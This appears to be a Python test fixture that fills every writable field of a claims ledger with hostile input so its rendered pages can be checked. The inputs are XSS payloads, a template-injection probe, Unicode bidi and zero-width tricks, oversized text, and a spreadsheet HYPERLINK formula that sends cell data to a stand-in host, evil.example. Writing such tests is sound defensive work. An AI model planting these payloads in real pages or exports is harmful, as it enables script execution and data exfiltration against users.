"""A ledger with hostile text in every field that people write, for whatever shows a ledger.

`tell` records it; `hostile_once` makes a ledger of it that is much larger than any of its texts
should be, for pages that must show all of that.
"""

import atexit
import os
from functools import cache
from pathlib import Path
from shutil import rmtree
from tempfile import mkdtemp
from typing import Any
from unittest.mock import patch

from ledger.api import Ledger
from projections.build import rebuild

TURN = "\u202e"
TAGS = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>"
EVIL = f"</p>{TAGS}{TURN}kcab {{{{ 7*7 }}}} 😀 &lt;"
LONG = "W" * 12_000
TEXT = f"He said: {EVIL} and {LONG} then stopped.\n\nمرحبا بالعالم قال المتحدث.\n"

HUGE = "Q" * 60_000  # a line has room for no more
UNSEEN = "pay\u200bpal \ufeff \u2066isolate and e" + "\u0301" * 60 + " \U000e0041\u061c{% raw %}"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Look")'
MANY = 1_000

Command = dict[str, Any]


def tell(ledger: Ledger, room: Path) -> None:
    """Record hostile text in every field; documents are put into a folder first."""
    (room / "evil.txt").write_text(TEXT, "utf-8")
    speaker = {"command": "register_speaker", "kind": "person", "name": EVIL}
    ledger.submit([
        {**speaker, "speaker_id": "evil"}, {**speaker, "speaker_id": "other"},
        {"command": "define_measure", "measure_id": "m", "label": EVIL, "unit": EVIL,
         "definition": EVIL},
        {"command": "capture_source", "source_id": "doc", "document": "evil.txt", "title": EVIL,
         "publisher_id": "other", "author": EVIL, "language": "ar", "published": "2018",
         "url": 'https://example.org/"><script>', "note": EVIL},
        {"command": "cite_source", "source_id": "cited", "title": EVIL, "note": LONG,
         "url": "javascript:alert(1)", "language": "not a tag"},
        {"command": "record_statement", "statement_id": "s1", "speaker_id": "evil",
         "co_speakers": ["other"], "attribution": "disputed", "alternatives": ["other"],
         "on_behalf_of": "other", "citing": ["other"], "proposition": EVIL + LONG, "venue": EVIL,
         "audience": EVIL, "topics": [EVIL], "note": EVIL, "speech_act": "accuse",
         "reports": [
             {"report_id": "r1", "source_id": "doc", "quote": f"{EVIL} and {LONG}",
              "quote_mode": "direct", "attributed_to": EVIL, "note": EVIL,
              "via": [{"speaker_id": "other", "words": EVIL}]},
             {"report_id": "r2", "source_id": "cited", "quote": EVIL, "quote_mode": "indirect",
              "media_fragment": "page=1", "translated_from": "ar", "via": ["doc"]}],
         "estimates": [
             {"estimate_id": "e1", "report_id": "r1", "measure_id": "m", "value": "> 10000",
              "reference_period": "2018", "note": EVIL},
             {"estimate_id": "e2", "report_id": "r2", "measure_id": "m", "value": "< 200",
              "reference_period": "2018", "basis": "derived", "method": EVIL}]},
        {"command": "record_statement", "statement_id": "s2", "speaker_id": "other",
         "within": "s1", "proposition": EVIL, "reports": [
             {"source_id": "doc", "quote": "مرحبا بالعالم", "quote_mode": "direct"}]},
        {"command": "relate_statements", "from": "s2", "to": "s1", "relation": "denies",
         "note": EVIL},
        {"command": "assess_statement", "statement_id": "s1", "assessor": EVIL, "explanation": EVIL,
         "rating": {"label": EVIL, "value": 1, "best": 5, "worst": 1}, "url": "data:text/html,x"},
        {"command": "revise_statement", "statement_id": "s1", "venue": EVIL * 2, "reason": EVIL},
    ], documents=room)  # fmt: skip


def tell_more(ledger: Ledger) -> None:
    """Record more of everything than a page has room for, and what spreadsheets would run."""
    aliases = [f"{EVIL} {number}" for number in range(200)]
    ledger.submit([
        {"command": "register_speaker", "speaker_id": "a.b-c..d_e", "kind": "group",
         "name": FORMULA, "aliases": [f"@alias {number}" for number in range(MANY)]},
        {"command": "register_speaker", "speaker_id": "unseen", "kind": "person", "name": UNSEEN,
         "aliases": aliases},
        {"command": "register_speaker", "speaker_id": "huge", "kind": "person", "name": HUGE},
        {"command": "define_measure", "measure_id": "m..long", "label": "measure" * 143,
         "unit": "unit" * 250, "definition": UNSEEN},
        {"command": "cite_source", "source_id": "many", "title": UNSEEN, "author": HUGE[:30_000],
         "url": "https://example.org/" + "p" * 20_000, "language": 'x" onmouseover="alert(3)'},
        {"command": "record_statement", "statement_id": "s.3..x", "speaker_id": "a.b-c..d_e",
         "proposition": HUGE, "reports": [{"report_id": "huge.r", "source_id": "many",
                                           "quote": UNSEEN, "quote_mode": "indirect"}]},
        {"command": "record_statement", "statement_id": "topics", "speaker_id": "unseen",
         "proposition": FORMULA, "topics": [f"topic {EVIL[:20]} {n}" for n in range(MANY)],
         "reports": [{"source_id": "many", "quote": FORMULA, "quote_mode": "indirect"}]},
        {"command": "record_statement", "statement_id": "echo", "speaker_id": "huge",
         "proposition": UNSEEN, "reports": _reports(0),
         "estimates": [{"report_id": "echo.0", "measure_id": "m..long", "value": "5..9"}]},
        *({"command": "add_report", "statement_id": "echo", **report}
          for first in range(100, MANY, 100) for report in _reports(first)),
    ])  # fmt: skip


def _reports(first: int) -> list[Command]:
    """A hundred reports of one statement, each in other words, by way of others."""
    return [
        {"report_id": f"echo.{number}", "source_id": "many", "quote": f"{EVIL} told {number} times",
         "quote_mode": "indirect", "via": ["other", {"speaker_id": "unseen", "words": EVIL}]}
        for number in range(first, first + 100)
    ]  # fmt: skip


@cache
def hostile_once() -> Path:
    """A folder with such a `ledger` and the `config` of its key, made once; nobody changes it."""
    made = Path(mkdtemp(prefix="claims-tests-"))
    atexit.register(rmtree, made, ignore_errors=True)
    with (
        patch.dict(os.environ, XDG_CONFIG_HOME=str(made / "config")),
        Ledger.create(
            made / "ledger", origin="example.org/test", actor=EVIL[:60], title=EVIL
        ) as ledger,
    ):
        tell(ledger, made)
        tell_more(ledger)
        ledger.log.refresh()
        rebuild(ledger.log)
    return made
